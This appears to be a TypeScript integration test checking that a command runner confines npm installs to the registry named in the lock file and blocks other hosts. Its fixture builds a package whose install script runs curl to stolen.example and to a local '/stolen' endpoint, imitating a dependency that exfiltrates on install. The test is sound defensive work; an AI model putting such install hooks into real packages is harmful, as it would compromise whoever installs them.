import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { type EventBody, RunnerEvent } from '../../src/protocol';
import { TestRepo } from '../fakes/testRepo';
import { Cli } from '../harness/cliProcess';

/** A package that, while it is installed, phones home in three ways. */
const phoning =
  'curl -s http://stolen.example/; curl -s --noproxy "*" --max-time 2 "http://127.0.0.1:$OTHER/stolen"; true';

describe('an install and its registry, on the command line', () => {
  let repo: TestRepo;
  let data: string;
  let registry: http.Server;
  let other: http.Server;
  let requests: string[];
  let stolen: number;

  const portOf = (server: http.Server) => (server.address() as AddressInfo).port;
  const listening = (server: http.Server): Promise<http.Server> =>
    new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));

  /** The package as a registry has it, made with tar as `npm pack` would. */
  function packed(): Buffer {
    const folder = fs.mkdtempSync(path.join(repo.folder, 'pack-'));
    fs.mkdirSync(path.join(folder, 'package'));
    const scripts = { install: phoning.replace('$OTHER', String(portOf(other))) };
    fs.writeFileSync(
      path.join(folder, 'package/package.json'),
      JSON.stringify({ name: 'left', version: '1.0.0', scripts }),
    );
    fs.writeFileSync(path.join(folder, 'package/index.js'), 'module.exports = "left";\n');
    return execFileSync('tar', ['-czf', '-', 'package'], { cwd: folder });
  }

  function write(tarball: Buffer): void {
    const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
    const resolved = `http://127.0.0.1:${portOf(registry)}/left-1.0.0.tgz`;
    const left = { version: '1.0.0', resolved, integrity, hasInstallScript: true };
    const app = { name: 'app', version: '1.0.0', dependencies: { left: '1.0.0' } };
    repo.write({
      '.gitignore': 'node_modules\n',
      '.npmrc': `registry=http://127.0.0.1:${portOf(registry)}/\naudit=false\n`,
      'package.json': JSON.stringify(app),
      'package-lock.json': JSON.stringify({
        ...{ name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true },
        packages: { '': app, 'node_modules/left': left },
      }),
    });
    repo.commit('first');
  }

  beforeEach(async () => {
    repo = new TestRepo();
    data = fs.mkdtempSync(path.join(repo.folder, 'data-'));
    [requests, stolen] = [[], 0];
    other = await listening(http.createServer((_, response) => response.end(String((stolen += 1)))));
    registry = await listening(
      http.createServer((request, response) => {
        requests.push(request.url ?? '');
        response.end(tarball);
      }),
    );
    const tarball = packed();
    write(tarball);
  });
  afterEach(() => {
    registry.close();
    other.close();
    repo.dispose();
  });

  async function eventsOf<T extends EventBody['type']>(
    id: string,
    type: T,
  ): Promise<Extract<RunnerEvent, { type: T }>[]> {
    const text = await fs.promises.readFile(path.join(data, 'tasks', id, 'events.jsonl'), 'utf8');
    const events = text
      .trimEnd()
      .split('\n')
      .map((line) => RunnerEvent.parse(JSON.parse(line)));
    return events.filter((event): event is Extract<RunnerEvent, { type: T }> => event.type === type);
  }

  it('reaches the registry that its lock file names, and nothing else, which is told', async () => {
    const cli = new Cli(data);
    const use = 'node -p "require(\'left\')" > made.txt';
    const run = await cli.run('run', '--repo', repo.root, '--command', use, '--no-verify', '--approve', 'allow');
    await cli.stop();
    assert.equal(run.status, 0, run.out + run.err);
    assert.deepEqual([requests, stolen], [['/left-1.0.0.tgz'], 0]);
    assert.match(run.out, /^ {2}stolen\.example was blocked: it is not on this command's list of hosts\.$/m);
    const id = await cli.newest();
    const [question] = await eventsOf(id, 'question');
    const registryEntry = `127.0.0.1:${portOf(registry)}`;
    assert.deepEqual(question?.request.kind === 'setup' && question.request.hosts, [
      'registry.npmjs.org',
      registryEntry,
    ]);
    const used = (await eventsOf(id, 'network.used')).at(-1)?.hosts ?? [];
    assert.deepEqual(
      used.map(({ host, port, blocked }) => [host, port, blocked]),
      [
        ['127.0.0.1', portOf(registry), undefined],
        ['stolen.example', 80, 'unlisted'],
      ],
    );
  });
});
